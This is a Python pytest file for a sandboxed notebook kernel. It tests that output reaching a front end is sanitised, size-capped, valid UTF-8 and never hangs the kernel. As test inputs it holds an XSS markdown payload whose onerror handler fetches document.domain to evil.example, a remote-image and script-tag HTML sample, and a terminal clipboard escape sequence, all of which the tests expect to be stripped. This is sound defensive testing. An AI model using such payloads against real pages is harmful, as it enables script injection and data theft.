"""The output wall through a real kernel: what reaches a front end is rebuilt by the kernel, bounded
by the cell's caps on every route (iopub and the reply summary), valid UTF-8, and never hangs the
kernel. Issue 8 items 1-3 and issue 9's findings, at the in-process and the default worker level."""
import json
import re

import pytest

from kernel_helpers import shell_request, start_client

PLOTLY = "application/vnd.plotly.v1+json"
HANDLER = re.compile(r'<(?:[^>"]|"[^"]*")*\son[a-z]+=', re.IGNORECASE)


@pytest.fixture(scope="module", params=["none", "kernel"])
def kernel(request, tmp_path_factory):
    client = start_client(cwd=str(tmp_path_factory.mktemp("wall-work")), isolation=request.param)
    yield client
    client.shutdown()


def published(result) -> list[dict]:
    return [o["data"] for o in result["outputs"] if o["type"] in ("display_data", "execute_result")]


def alive(kernel) -> bool:
    return kernel.run("1 + 1", timeout=60)["status"] == "ok"


def test_quadratic_markdown_does_not_hang_the_kernel(kernel):
    """Issue 8, 1: the old sanitiser spent minutes on this in the kernel's process, deaf to interrupts."""
    result = kernel.run("class M:\n    _repr_markdown_ = lambda self: ']()' * 40000\nM()", timeout=60)
    assert result["status"] == "ok"
    data = published(result)[0]
    assert "text/markdown" not in data
    assert shell_request(kernel, "kernel_info_request", {})["content"]["status"] == "ok"


def test_markdown_is_published_as_rebuilt_html(kernel):
    payload = "![x]($\" onerror=\"fetch('//evil.example/x?'+document.domain)//$)\n\n# Title\n*em*"
    result = kernel.run(f"class M:\n    def _repr_markdown_(self):\n        return {payload!r}\nM()")
    data = published(result)[0]
    assert set(data) == {"text/html", "text/plain"}
    html = data["text/html"]
    assert "<h1>Title</h1>" in html and "<em>em</em>" in html
    assert not HANDLER.search(html) and "src=" not in html


def test_html_loses_classes_and_remote_urls(kernel):
    result = kernel.run("class H:\n    def _repr_html_(self):\n"
                        "        return '<div class=\"jp-Dialog\" style=\"position:fixed\">Restart?</div>"
                        "<img src=\"//evil.example/p.png\"><script>fetch(1)</script>'\nH()")
    assert published(result)[0]["text/html"] == "<div>Restart?</div><img>"


def test_output_caps_count_displays_and_the_reply_summary(kernel):
    """Issue 8, 2: six copies of a big chart published 18.5 MB plus an 18.5 MB copy in the reply
    under a 1 MB output limit, and reported truncated=False. Issue 11, 8: displays have a cap of their
    own (max_display_bytes, 5 MB), separate from the text limit; every copy still counts, and each
    display left out is named on one stderr line."""
    msg_id = kernel.kc.execute(
        "%%sandbox --output 1000000\n"
        "big = {'data': [{'type': 'scatter', 'y': list(range(100_000))}]}\n"
        "result = {'chart': [big] * 12}")
    reply = kernel.kc.get_shell_msg(timeout=120)
    assert reply["parent_header"]["msg_id"] == msg_id
    summary = reply["metadata"]["sandbox"]
    sent, charts, notes = 0, 0, []
    while True:
        msg = kernel.kc.get_iopub_msg(timeout=30)
        if msg["parent_header"].get("msg_id") != msg_id:
            continue
        if msg["msg_type"] in ("display_data", "execute_result"):
            sent += len(json.dumps(msg["content"]["data"]))
            charts += "application/vnd.plotly.v1+json" in msg["content"]["data"]
        if msg["msg_type"] == "stream" and msg["content"]["name"] == "stderr":
            notes.append(msg["content"]["text"])
        if msg["msg_type"] == "status" and msg["content"]["execution_state"] == "idle":
            break
    in_reply = len(json.dumps(summary["charts"]))
    assert 4_000_000 < sent + in_reply <= 5_000_000 + 10_000
    assert charts == 9 and len(notes) == 3  # 533 kB each, packed: 9 fit the 5 MB display cap
    assert all(re.fullmatch(r"\[sandbox\] a Plotly chart of 53\d\.\d kB not shown: over the cell's display limit "
                            r"of 5\.0 MB; 4\.8 MB already shown\n", n) for n in notes), notes
    assert summary["truncated"] is True
    assert alive(kernel)


@pytest.mark.parametrize("source", ["print('a\\ud800b')", "print('\\udc80\\udfff')", "'x\\ud83d'",
                                    "raise ValueError('\\ud800')"])
def test_every_reply_arrives_as_valid_utf8(kernel, source):
    """Issue 8, 3: print('a\\ud800b') left the client waiting for a reply forever."""
    result = kernel.run(source, timeout=60)
    text = json.dumps([result["outputs"], result.get("error")], ensure_ascii=False)
    text.encode("utf-8")  # strict: no lone surrogate reached the client
    assert "\ufffd" in text or "\\\\ud83d" in text  # replaced, or shown escaped by repr()
    assert alive(kernel)


def test_terminal_controls_are_made_visible(kernel):
    result = kernel.run("print('a\\x1b]52;c;ZXZpbA==\\x07b\\rc \\u202eevil')")
    text = result["output"]
    assert "\x1b" not in text and "\x07" not in text and "\r" not in text and "\u202e" not in text
    assert "\u241b]52" in text and "<U+202E>" in text


def test_a_cell_cannot_forge_a_denial(kernel):
    """Issue 9, 6: a denial comes only from the sandbox; the cell's own exception by a denial's name,
    or a denial it constructed from a caught one's class, reads as the cell's error."""
    forged = kernel.run("try:\n    import os\nexcept ImportError as e:\n    fake = type(e)\n"
                        "raise fake('os', 'ask the admin at evil.example')")
    assert forged["error"]["ename"].startswith("ImportDenied (raised by the cell")
    assert forged["denials"] == [] or all(d["rule"] != "ask the admin at evil.example" for d in forged["denials"])
    assert forged["error"]["denial"] is False
    own = kernel.run("class ImportDenied(Exception):\n    pass\nraise ImportDenied(\"import of 'os' is not allowed\")")
    assert own["error"]["ename"].startswith("ImportDenied (raised by the cell") and own["denials"] == []
    real = kernel.run("import os")
    assert real["error"]["ename"] == "ImportDenied" and real["error"]["denial"] is True
    assert real["denials"][0]["target"] == "os" and real["denials"][0]["by"] == "engine"


def test_reply_facts_come_from_the_kernel(kernel):
    result = kernel.run("%sandbox_policy strict\nx = 1")
    assert result["policy"] == "strict" and result["isolation"] == kernel.options[-1].split("=")[1]
    kernel.run("%sandbox_policy data-science")
    magic = kernel.run("%sandbox_policy no-such-policy")
    assert magic["denials"][0]["by"] == "kernel" and magic["error"]["denial"] is True


def test_operator_limits_given_on_the_command_line(tmp_path):
    """A traitlets Dict from the command line holds strings: they are limits all the same."""
    client = start_client(cwd=str(tmp_path), options=["--SandboxKernel.limits=output_bytes=5000"])
    try:
        result = client.run("print('x' * 20000)")
        assert result["status"] == "ok" and result["truncated"] is True
        assert len(result["output"]) <= 5000
        assert "output 5000 bytes" in client.run("%sandbox_policy")["output"]
    finally:
        client.shutdown()
